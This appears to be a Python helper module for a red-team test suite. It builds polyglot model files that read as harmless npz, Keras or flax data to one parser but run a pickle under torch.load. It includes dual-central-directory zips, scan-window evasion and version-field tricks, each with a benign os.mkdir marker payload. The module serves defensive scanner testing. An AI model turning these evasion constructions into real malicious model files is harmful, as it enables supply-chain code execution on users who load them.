"""Builders of the fifth red-team pass's hostile files (tests/test_hostile_polyglots.py, tests/hostile_corpus_polyglots.py):
bytes that one loader reads as a harmless format and torch.load as a pickle it runs. Each payload only creates the
folder `marker` (os.mkdir), so the real `torch.load(weights_only=False)` proves which files run code.
Not collected by pytest (no test_ prefix)."""
from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib

import numpy as np
from test_scan_differential import LOADER  # torch.load(weights_only=False) on each path, errors swallowed


def payload(marker: str) -> bytes:
    """A protocol-0 pickle body that calls os.mkdir(marker) (GLOBAL, MARK, UNICODE, TUPLE, REDUCE, STOP)."""
    assert "\n" not in marker
    return b"cos\nmkdir\n(V" + marker.encode() + b"\ntR."


class Mkdir:
    """An object whose pickle calls os.mkdir(path): what a real torch.save of a hostile object holds."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def torch_bytes(obj: object) -> bytes:
    """What the real torch.save(obj) writes."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _npy(values: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, values)
    return buf.getvalue()


def _stored(name: str, data: bytes, at: int) -> tuple[bytes, bytes]:
    """(local header + data at offset `at`, its central-directory entry): a stored member (APPNOTE 4.3.7, 4.3.12)."""
    raw, crc = name.encode(), zlib.crc32(data)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(raw), 0) + raw + data
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data), len(raw),
                          0, 0, 0, 0, 0, at) + raw
    return local, central


def two_directory_zip(marker: str, other: str = "npz") -> bytes:
    """A zip with two central directories: the end record's offset field points at a torch archive's
    (archive/data.pkl runs the payload), which miniz, and so torch.load, reads; its size field, counted back
    from the end record, at an `.npz` of two arrays (or a Keras archive), which Python's zipfile reads
    (zipfile takes the difference of the two as bytes prepended to the archive and shifts every offset by it)."""
    torch_members = [("archive/data.pkl", payload(marker)), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
    if other == "npz":
        members = [("a.npy", _npy(np.arange(4, dtype=np.float32))), ("b.npy", _npy(np.ones(3)))]
    else:
        members = [("config.json", b'{"class_name": "Sequential"}'), ("model.weights.h5", b"\0" * 8),
                   ("metadata.json", b'{"keras_version": "3.15.0"}')]
    body, cd_torch, cd_other, at = b"", b"", [], 0
    for name, data in torch_members:
        local, central = _stored(name, data, at)
        body, cd_torch, at = body + local, cd_torch + central, at + len(local)
    # zipfile reads `size` bytes back from the end record: the other directory must span the torch one
    short = len(cd_torch) - sum(46 + len(n) for n, _ in members)
    if short > 0:   # a longer last name (padded before its extension)
        name, data = members[-1]
        stem, ext = os.path.splitext(name)
        members[-1] = (stem + "_" * short + ext, data)
    body += b"\0" * 1024   # room for zipfile's shift (the torch directory's size): its offsets stay positive
    at += 1024
    cd_other = []
    for name, data in members:
        local, _ = _stored(name, data, at)
        cd_other.append(_stored(name, data, at - len(cd_torch))[1])   # zipfile adds the shift back
        body, at = body + local, at + len(local)
    cd = b"".join(cd_other)
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(torch_members), len(torch_members), len(cd), len(body), 0)
    return body + cd_torch + cd + eocd


def flax_pickle(marker: str) -> bytes:
    """Byte 0 (0x8e) opens a msgpack map of 14 entries and is pickle's BINBYTES8: the 8 bytes after it are the
    map's first key (a 7-byte str of NULs after its marker 0xa7) and BINBYTES8's length, 167, so the bytes value
    swallows the msgpack ndarray ext that follows the key, and after it the pickle POPs it and runs the payload."""
    key = b"\xa7" + b"\0" * 7
    (n,) = struct.unpack("<Q", key)
    ext = b"\xc7\x04\x01\x93\x01\x02\x03"   # ext8, 4 bytes, code 1 (flax's ndarray), payload opening with a 3-array
    head = b"\x8e" + key + ext
    return head + b"\0" * (9 + n - len(head)) + b"0" + payload(marker)


def truncated_head_pickle(marker: str) -> bytes:
    """A legacy-stream pickle whose first opcode, BINBYTES of 8,000 bytes, runs past the first 4 KiB; then POP
    and the payload (protocol 0: no PROTO opcode to recognise it by)."""
    return b"B" + struct.pack("<L", 8000) + b"\0" * 8000 + b"0" + payload(marker)


def zip_version_64(marker: str) -> bytes:
    """A torch archive whose central directory says each entry needs zip version 6.4 to extract: Python's zipfile
    refuses to list it (NotImplementedError), miniz never looks at the field."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", payload(marker))
        z.writestr("archive/version", b"3\n")
    data = bytearray(buf.getvalue())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<H", data, at + 6, 64)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)




def torch_load_runs(path: str, marker: str) -> bool:
    """Whether the real torch.load(path, weights_only=False), in a throw-away process, creates `marker`."""
    return loader_runs(LOADER, path, marker)


def loader_runs(code: str, path: str, marker: str, env: dict[str, str] | None = None) -> bool:
    """Whether the Python `code`, run on `path` in a throw-away process, creates the folder `marker` (removed after)."""
    assert not os.path.exists(marker)
    subprocess.run([sys.executable, "-c", code, path], timeout=300, capture_output=True, env=env)
    ran = os.path.isdir(marker)
    if ran:
        os.rmdir(marker)
    return ran
